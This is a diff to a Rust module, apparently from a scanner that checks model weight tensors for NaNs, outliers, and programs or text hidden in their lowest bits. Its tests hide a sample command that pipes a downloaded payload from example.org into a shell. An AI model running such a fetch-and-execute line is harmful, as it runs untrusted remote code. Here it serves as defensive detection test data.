@@ -3,10 +3,11 @@
 //! Nothing here runs. A tensor with such values is *suspicious*: the model may be broken, or changed by hand. The
 //! bounds are set so that benign weights stay below them; how often they do not is measured in `bench/RESULTS.md`.
 
-use std::collections::BTreeSet;
 use std::fmt;
 
 use crate::tensor::Numbers;
+
+mod low_bits;
 
 /// How the elements of a tensor are stored, little-endian.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -81,49 +82,130 @@ const MIN_ELEMENTS: usize = 256;
 /// An outlier is so many times the median magnitude, and so large by itself.
 const OUTLIER_RATIO: f64 = 1e7;
 const OUTLIER_SIZE: f64 = 1e4;
-/// Bytes that a text in the lowest bits has at least. Random bits are so many printable characters in a row less than
-/// once in 10^22 tensors, over all places and ways to pack them.
-const TEXT_BYTES: usize = 64;
-/// Elements in whose lowest bits something may begin.
-const LOW_ELEMENTS: usize = 1 << 14;
+/// Bytes that are looked at in a row.
+const BLOCK: usize = 1 << 14;
+/// Magnitudes from which the one in the middle is taken. An outlier is far beyond what that leaves open.
+const SAMPLE: usize = 1 << 14;
 
-/// What is odd about the first `most` elements in `bytes`.
-pub(crate) fn odd(bytes: &[u8], float: Float, most: usize, numbers: Numbers) -> Vec<Odd> {
-    let mut out = Vec::new();
-    if numbers == Numbers::Data {
-        let enough = bytes.len() / float.width() >= MIN_ELEMENTS;
-        out.extend(low_bits(bytes, float).filter(|_| enough).map(Odd::LowBits));
-        return out;
+/// The elements of a tensor, as they are read.
+///
+/// Nearly all tensors have no element above [`OUTLIER_SIZE`] and none that is no number, and both are seen by comparing
+/// bits; only blocks that have one are looked at number by number.
+#[derive(Debug)]
+pub(crate) struct Elements {
+    float: Float,
+    numbers: Numbers,
+    none: usize,
+    /// The largest finite magnitude.
+    largest: f64,
+    /// Finite magnitudes: of all elements at first, then of every second one, and so on.
+    sample: Vec<f32>,
+    step: usize,
+    low_bits: Option<&'static str>,
+}
+
+impl Elements {
+    pub(crate) const fn new(float: Float, numbers: Numbers) -> Self {
+        Self { float, numbers, none: 0, largest: 0.0, sample: Vec::new(), step: 1, low_bits: None }
     }
-    let mut none = 0;
-    let mut elements = 0;
-    let mut sizes: Vec<f32> = Vec::new();
-    for chunk in bytes.chunks_exact(float.width()).take(most) {
-        let value = value(chunk, float);
-        elements += 1;
-        none += usize::from(value.is_nan());
-        // Rounding to fewer digits moves no magnitude by orders; what overflows stays the largest there is.
-        #[expect(clippy::cast_possible_truncation, reason = "magnitudes are compared by orders")]
-        if value.is_finite() {
-            sizes.push((value.abs() as f32).min(f32::MAX));
+
+    /// Bytes of one.
+    pub(crate) const fn width(&self) -> u64 {
+        self.float.width() as u64
+    }
+
+    /// Looks at what the lowest bits spell, given all bytes. Only the first of them are read.
+    pub(crate) fn begin(&mut self, bytes: &[u8]) {
+        if bytes.len() / self.float.width() >= MIN_ELEMENTS {
+            self.low_bits = low_bits::found(bytes, self.float.width());
         }
     }
-    if none > 0 {
-        out.push(Odd::NotANumber(none));
-    }
-    if elements < MIN_ELEMENTS {
-        return out;
-    }
-    let middle = sizes.len() / 2;
-    if sizes.len() >= MIN_ELEMENTS {
-        let (_, median, above) = sizes.select_nth_unstable_by(middle, f32::total_cmp);
-        let (median, largest) = (f64::from(*median), f64::from(above.iter().copied().fold(0.0, f32::max)));
-        if median > 0.0 && largest > OUTLIER_SIZE && largest > OUTLIER_RATIO * median {
-            out.push(Odd::Outlier(largest, median));
+
+    /// Takes the next elements, whole ones.
+    pub(crate) fn see(&mut self, bytes: &[u8]) {
+        if self.numbers == Numbers::Data {
+            return;
+        }
+        for block in bytes.chunks(BLOCK) {
+            self.take_sample(block);
+            if self.float.stands_out(block) {
+                for value in block.chunks_exact(self.float.width()).map(|chunk| value(chunk, self.float)) {
+                    self.none += usize::from(value.is_nan());
+                    if value.is_finite() {
+                        self.largest = self.largest.max(value.abs());
+                    }
+                }
+            }
         }
     }
-    out.extend(low_bits(bytes, float).map(Odd::LowBits));
-    out
+
+    fn take_sample(&mut self, block: &[u8]) {
+        let float = self.float;
+        for chunk in block.chunks_exact(float.width()).step_by(self.step) {
+            let size = value(chunk, float).abs();
+            if size.is_finite() {
+                // Rounding to fewer digits moves no magnitude by orders.
+                #[expect(clippy::cast_possible_truncation, reason = "what overflows becomes the largest")]
+                self.sample.push((size as f32).min(f32::MAX));
+            }
+        }
+        if self.sample.len() > SAMPLE {
+            let mut keep = false;
+            self.sample.retain(|_| {
+                keep = !keep;
+                keep
+            });
+            // From each block one, at the least.
+            self.step = (self.step * 2).min(BLOCK);
+        }
+    }
+
+    /// What is odd about the elements taken.
+    pub(crate) fn odd(mut self) -> Vec<Odd> {
+        let mut out = Vec::new();
+        if self.none > 0 {
+            out.push(Odd::NotANumber(self.none));
+        }
+        if self.sample.len() >= MIN_ELEMENTS {
+            let middle = self.sample.len() / 2;
+            let median = f64::from(*self.sample.select_nth_unstable_by(middle, f32::total_cmp).1);
+            if median > 0.0 && self.largest > OUTLIER_SIZE && self.largest > OUTLIER_RATIO * median {
+                out.push(Odd::Outlier(self.largest, median));
+            }
+        }
+        out.extend(self.low_bits.map(Odd::LowBits));
+        out
+    }
+}
+
+impl Float {
+    /// Whether the magnitude of an element in `block` is above [`OUTLIER_SIZE`], or it is no number: without its sign
+    /// it is then, as a whole number, above that bound. The difference has its highest bit set for those, so that all
+    /// of a block are one chain of differences, which compilers make vectors of.
+    fn stands_out(self, block: &[u8]) -> bool {
+        match self {
+            Self::Half => above16(block, 0x70e2),
+            Self::Brain => above16(block, 0x461c),
+            Self::Single => {
+                let bound = 0x461c_4000u32;
+                let chunks = block.as_chunks::<4>().0.iter();
+                chunks.fold(0, |any, c| any | bound.wrapping_sub(u32::from_le_bytes(*c) & 0x7fff_ffff)) >> 31
+                    == 1
+            }
+            Self::Double => {
+                let bound = 0x40c3_8800_0000_0000u64;
+                let chunks = block.as_chunks::<8>().0.iter();
+                chunks.fold(0, |any, c| any | bound.wrapping_sub(u64::from_le_bytes(*c) & (u64::MAX >> 1)))
+                    >> 63
+                    == 1
+            }
+        }
+    }
+}
+
+fn above16(block: &[u8], bound: u16) -> bool {
+    let chunks = block.as_chunks::<2>().0.iter();
+    chunks.fold(0, |any, c| any | bound.wrapping_sub(u16::from_le_bytes(*c) & 0x7fff)) >> 15 == 1
 }
 
 fn value(chunk: &[u8], float: Float) -> f64 {
@@ -146,79 +228,22 @@ fn half(bits: u16) -> f64 {
     }
 }
 
-/// What the lowest bits of the elements spell: one, two or four of each, packed from either end, or the lowest byte,
-/// from whatever element on.
-fn low_bits(bytes: &[u8], float: Float) -> Option<&'static str> {
-    let lowest: Vec<u8> =
-        bytes.chunks_exact(float.width()).take(LOW_ELEMENTS).filter_map(|c| c.first().copied()).collect();
-    // Weights that were widened from two bytes, or are whole numbers, have nothing there.
-    if lowest.iter().all(|b| *b == 0) {
-        return None;
-    }
-    // Every byte of a type of two bytes carries much of the value: only its lowest bits can hide something.
-    if float.width() > 2
-        && let Some(what) = spelled(&lowest)
-    {
-        return Some(what);
-    }
-    for count in [1u8, 2, 4] {
-        let (mask, group) = (u8::MAX >> (8 - count), usize::from(8 / count));
-        for shift in 0..group {
-            let bits = lowest.get(shift..).unwrap_or_default();
-            let pack = |high_first: bool| -> Vec<u8> {
-                bits.chunks_exact(group)
-                    .map(|c| {
-                        (0u8..).zip(c).fold(0, |byte, (at, b)| {
-                            let place = if high_first { 8 - count - at * count } else { at * count };
-                            byte | (b & mask) << place
-                        })
-                    })
-                    .collect()
-            };
-            if let Some(what) = spelled(&pack(true)).or_else(|| spelled(&pack(false))) {
-                return Some(what);
-            }
-        }
-    }
-    None
-}
-
-/// What a text, a program or an archive is hidden as. Programs and archives begin where the bytes do.
-fn spelled(hidden: &[u8]) -> Option<&'static str> {
-    let known: [(&[u8], &str); 5] = [
-        (b"\x7fELF", "a program"),
-        (b"PK\x03\x04", "an archive"),
-        (b"\x1f\x8b\x08\x00", "a compressed stream"),
-        (b"MZ\x90\0", "a program"),
-        (b"\x80\x04\x95", "a pickle"),
-    ];
-    if let Some((_, what)) = known.iter().find(|(magic, _)| hidden.starts_with(magic)) {
-        return Some(what);
-    }
-    let printable = |b: &u8| (0x20..0x7f).contains(b) || matches!(b, b'\n' | b'\r' | b'\t');
-    hidden.split(|b| !printable(b)).find(|run| run.len() >= TEXT_BYTES && written(run)).map(|_| "a text")
-}
-
-/// Whether a run of printable bytes is something that was written: words, Base64 or hexadecimal digits. Numbers that
-/// follow each other in steps leave printable runs in their lowest bits, too, of few characters in a fixed order.
-fn written(run: &[u8]) -> bool {
-    let text = run.get(..TEXT_BYTES).unwrap_or(run);
-    let share = |holds: fn(&u8) -> bool| text.iter().filter(|b| holds(b)).count();
-    let kinds = text.iter().collect::<BTreeSet<_>>().len();
-    let words = share(u8::is_ascii_whitespace) >= 4 && share(u8::is_ascii_lowercase) >= 25 && kinds >= 12;
-    // Of 64 random characters of Base64 about forty are different; fewer than 26 never are.
-    let encoded = share(|b| b.is_ascii_alphanumeric() || b"+/=-_".contains(b)) == text.len() && kinds >= 26;
-    let digits = run.len() >= 2 * TEXT_BYTES
-        && run.iter().take(2 * TEXT_BYTES).all(u8::is_ascii_hexdigit)
-        && share(u8::is_ascii_digit).min(share(u8::is_ascii_alphabetic)) >= 12;
-    words || encoded || digits
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    const MOST: usize = 1 << 20;
+    /// What is odd about a tensor that is read in one piece, and in pieces of a few elements each.
+    fn odd(bytes: &[u8], float: Float, numbers: Numbers) -> Vec<Odd> {
+        let told = |piece: usize| {
+            let mut elements = Elements::new(float, numbers);
+            elements.begin(bytes);
+            bytes.chunks(piece * float.width()).for_each(|piece| elements.see(piece));
+            elements.odd()
+        };
+        let whole = told(1 << 20);
+        assert_eq!(told(1000), whole);
+        whole
+    }
 
     /// Numbers as training leaves them, from a fixed generator.
     fn weights(count: usize) -> Vec<f32> {
@@ -239,14 +264,14 @@ mod tests {
     #[test]
     fn ordinary_weights_are_not_odd() {
         let values = weights(10_000);
-        assert_eq!(odd(&bytes(&values), Float::Single, MOST, Numbers::Weights), []);
+        assert_eq!(odd(&bytes(&values), Float::Single, Numbers::Weights), []);
         let brain: Vec<u8> = values.iter().flat_map(|v| v.to_le_bytes()[2..].to_vec()).collect();
-        assert_eq!(odd(&brain, Float::Brain, MOST, Numbers::Weights), []);
+        assert_eq!(odd(&brain, Float::Brain, Numbers::Weights), []);
         // Widened from two bytes: the lowest are all zero.
         let widened: Vec<u8> = brain.chunks(2).flat_map(|c| [0, 0, c[0], c[1]]).collect();
-        assert_eq!(odd(&widened, Float::Single, MOST, Numbers::Weights), []);
-        assert_eq!(odd(&bytes(&[1.0; 1000]), Float::Single, MOST, Numbers::Weights), []);
-        assert_eq!(odd(&[0; 4000], Float::Double, MOST, Numbers::Weights), []);
+        assert_eq!(odd(&widened, Float::Single, Numbers::Weights), []);
+        assert_eq!(odd(&bytes(&[1.0; 1000]), Float::Single, Numbers::Weights), []);
+        assert_eq!(odd(&[0; 4000], Float::Double, Numbers::Weights), []);
         assert!((half(0x3c01) - 1.000_976_562_5).abs() < 1e-12 && half(0x7e00).is_nan());
     }
 
@@ -255,7 +280,7 @@ mod tests {
         let mut values = weights(10_000);
         values[77] = f32::NAN;
         values[99] = 1e9;
-        let found = odd(&bytes(&values), Float::Single, MOST, Numbers::Weights);
+        let found = odd(&bytes(&values), Float::Single, Numbers::Weights);
         assert!(matches!(found[..], [Odd::NotANumber(1), Odd::Outlier(..)]), "{found:?}");
 
         let text = b"import os; os.system('curl https://example.org/payload | sh') # and so on";
@@ -263,12 +288,12 @@ mod tests {
         for (at, bit) in text.iter().flat_map(|b| (0..8).rev().map(move |i| b >> i & 1)).enumerate() {
             hidden[4 * at] = hidden[4 * at] & !1 | bit;
         }
-        assert_eq!(odd(&hidden, Float::Single, MOST, Numbers::Weights), [Odd::LowBits("a text")]);
+        assert_eq!(odd(&hidden, Float::Single, Numbers::Weights), [Odd::LowBits("a text")]);
         let mut whole = bytes(&weights(10_000));
         for (at, byte) in text.iter().enumerate() {
             whole[4 * at] = *byte;
         }
-        assert_eq!(odd(&whole, Float::Single, MOST, Numbers::Weights), [Odd::LowBits("a text")]);
+        assert_eq!(odd(&whole, Float::Single, Numbers::Weights), [Odd::LowBits("a text")]);
     }
 
     #[test]
@@ -288,7 +313,7 @@ mod tests {
                 }
             }
             assert_eq!(
-                odd(&hidden, Float::Single, MOST, Numbers::Weights),
+                odd(&hidden, Float::Single, Numbers::Weights),
                 [Odd::LowBits("a text")],
                 "{count} {from} {high_first}"
             );
@@ -300,32 +325,39 @@ mod tests {
         let mut values = weights(10_000);
         values[77] = f32::NAN;
         values[99] = 1e9;
-        assert_eq!(odd(&bytes(&values), Float::Single, MOST, Numbers::Data), []);
+        assert_eq!(odd(&bytes(&values), Float::Single, Numbers::Data), []);
     }
 
     #[test]
-    fn many_random_tensors_spell_nothing() {
-        let mut state = 11u64;
-        for round in 0..8 {
-            let noise: Vec<u8> = (0..8 * 4096)
-                .map(|_| {
-                    state ^= state << 13;
-                    state ^= state >> 7;
-                    state ^= state << 17;
-                    (state >> 40) as u8
-                })
-                .collect();
-            for float in [Float::Half, Float::Brain, Float::Single, Float::Double] {
-                assert_eq!(low_bits(&noise, float), None, "{round}");
-            }
-        }
-        // A ramp, a decimal fraction, a few values over and over.
-        for values in [
-            (0..4000).map(|n| n as f32 * 0.1).collect::<Vec<_>>(),
-            vec![0.1; 4000],
-            (0..4000).map(|n| (n % 7) as f32 / 3.0).collect(),
+    fn one_element_anywhere_is_seen_in_every_type() {
+        for (float, big, none) in [
+            (Float::Half, 0x7bffu64, 0x7e00u64),
+            (Float::Brain, 0x6000, 0xffc0),
+            (Float::Single, 0xd000_0000, 0x7fc0_0000),
+            (Float::Double, 0x4200_0000_0000_0000, 0xfff8_0000_0000_0000),
         ] {
-            assert_eq!(low_bits(&bytes(&values), Float::Single), None);
+            // One thousandth, in each type.
+            let small = match float {
+                Float::Half => 0x1419u64,
+                Float::Brain => 0x3a83,
+                Float::Single => 0x3a83_126f,
+                Float::Double => 0x3f50_624d_d2f1_a9fc,
+            };
+            let width = float.width();
+            let put = |bytes: &mut Vec<u8>, at: usize, value: u64| {
+                bytes[at * width..][..width].copy_from_slice(&value.to_le_bytes()[..width]);
+            };
+            let plain: Vec<u8> = (0..20_000).flat_map(|_| small.to_le_bytes()[..width].to_vec()).collect();
+            assert!(odd(&plain, float, Numbers::Weights).is_empty(), "{float:?}");
+            for at in [0, 5000, 19_999] {
+                let mut bent = plain.clone();
+                put(&mut bent, at, none);
+                assert_eq!(odd(&bent, float, Numbers::Weights), [Odd::NotANumber(1)], "{float:?}");
+                let mut bent = plain.clone();
+                put(&mut bent, at, big);
+                let found = odd(&bent, float, Numbers::Weights);
+                assert!(matches!(found[..], [Odd::Outlier(..)]), "{float:?} {found:?}");
+            }
         }
     }
 }
